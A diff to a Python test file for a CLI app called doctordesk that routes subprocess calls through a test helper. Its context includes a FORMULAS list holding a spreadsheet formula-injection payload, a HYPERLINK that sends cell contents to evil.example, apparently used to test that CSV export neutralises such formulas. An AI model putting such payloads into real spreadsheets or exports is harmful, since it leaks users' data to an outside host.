@@ -9,7 +9,6 @@ import io
 import json
 import os
 import subprocess
-import sys
 from pathlib import Path
 
 import pytest
@@ -17,6 +16,7 @@ import pytest
 from doctordesk.domain.transfer.csv_cells import FORMULA_STARTS
 from doctordesk.domain.transfer.import_rows import KIND_ORDER
 from doctordesk.services.transfer.import_files import MAX_JSON_DEPTH
+from tests.support import processes
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -36,9 +36,7 @@ def cli(database_url: str, data: Path, *args: str, check: bool = True) -> subpro
         "DOCTORDESK_ARGON2_TIME_COST": "1",
         "DOCTORDESK_ARGON2_MEMORY_KIB": "1024",
     }
-    result = subprocess.run(
-        [sys.executable, "-m", "doctordesk.cli", *args], env=env, capture_output=True, text=True, timeout=180
-    )
+    result = processes.run(["doctordesk", *args], env)
     assert "Traceback" not in result.stderr, result.stderr
     if check:
         assert result.returncode == 0, result.stdout + result.stderr
